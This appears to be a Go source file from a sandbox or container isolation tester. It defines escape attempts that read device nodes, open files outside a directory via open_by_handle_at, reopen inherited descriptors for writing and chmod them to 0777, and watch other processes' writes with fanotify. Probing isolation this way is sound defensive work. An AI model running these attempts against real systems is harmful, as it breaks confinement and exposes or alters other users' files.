package attack

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

var fsHandleAttacks = []Attack{
	NodevVolume,
	OpenByHandle,
	FDReopen,
	FanotifyFilesystem,
}

// NodevVolume reads the device node Target.Path.
var NodevVolume = Attack{Name: "fs.nodev", Run: func(a *Attempt) { a.ReadFile(a.Inside(a.Target.Path)) }}

// OpenByHandle opens a file by the file handle Target.Extra, in hexadecimal, of type
// Target.Count. The file is on the file system of the directory Target.Path, and outside it.
var OpenByHandle = Attack{Name: "fs.open-by-handle", Run: func(a *Attempt) {
	handle, err := hex.DecodeString(a.Target.Extra)
	if !a.Try("decode the handle", err) {
		return
	}
	dir, err := unix.Open(a.Inside(a.Target.Path), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if !a.Try("open "+a.Target.Path, err) {
		return
	}
	fd, err := unix.OpenByHandleAt(dir, unix.NewFileHandle(int32(a.Target.Count), handle), unix.O_RDONLY|unix.O_CLOEXEC)
	if a.Try("open_by_handle_at", err) {
		a.ReadFrom(fd)
	}
}}

// FDReopen opens the descriptors that it was given for reading once more, for writing, and
// changes the file's mode.
var FDReopen = Attack{Name: "fs.fd-reopen", Run: func(a *Attempt) {
	for _, fd := range a.Inherited() {
		a.overwrite(fmt.Sprintf("/proc/self/fd/%d", fd))
		a.Try("fchmod", unix.Fchmod(fd, 0o777))
	}
}}

// FanotifyFilesystem watches the file system and the mount of the directory Target.Path, and
// reads what files have been written to meanwhile.
var FanotifyFilesystem = Attack{Name: "fs.fanotify-filesystem", Run: func(a *Attempt) {
	dir := a.Inside(a.Target.Path)
	fd, err := unix.FanotifyInit(unix.FAN_CLASS_CONTENT|unix.FAN_CLOEXEC, unix.O_RDONLY)
	if a.Try("fanotify_init FAN_CLASS_CONTENT", err) {
		_ = unix.Close(fd)
	}
	for _, group := range []struct {
		name  string
		flags uint
	}{{"FAN_CLASS_NOTIF", unix.FAN_CLASS_NOTIF}, {"FAN_REPORT_FID", unix.FAN_REPORT_FID}} {
		fd, err := unix.FanotifyInit(group.flags|unix.FAN_CLOEXEC|unix.FAN_NONBLOCK, unix.O_RDONLY|unix.O_CLOEXEC)
		if !a.Try("fanotify_init "+group.name, err) {
			continue
		}
		for _, mark := range []struct {
			name string
			flag uint
		}{{"FAN_MARK_FILESYSTEM", unix.FAN_MARK_FILESYSTEM}, {"FAN_MARK_MOUNT", unix.FAN_MARK_MOUNT}} {
			a.Try("fanotify_mark "+mark.name, unix.FanotifyMark(fd, unix.FAN_MARK_ADD|mark.flag, unix.FAN_CLOSE_WRITE, unix.AT_FDCWD, dir))
		}
		a.Hold("watching")
		a.watched(fd)
		_ = unix.Close(fd)
	}
}}

// watched keeps the names and the content of the files behind the events of a fanotify group.
func (a *Attempt) watched(group int) {
	b := make([]byte, 4096)
	n, err := unix.Read(group, b)
	if !a.Try("read events", err) {
		return
	}
	// struct fanotify_event_metadata of fanotify(7): a length first, a descriptor at 16.
	const size, fdAt = 24, 16
	for b = b[:n]; len(b) >= size; {
		length := int(binary.NativeEndian.Uint32(b))
		if length < size || length > len(b) {
			return
		}
		if fd := int(int32(binary.NativeEndian.Uint32(b[fdAt:]))); fd >= 0 {
			if name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil {
				a.Saw(name)
			}
			a.ReadFrom(fd)
			_ = unix.Close(fd)
		}
		b = b[length:]
	}
}
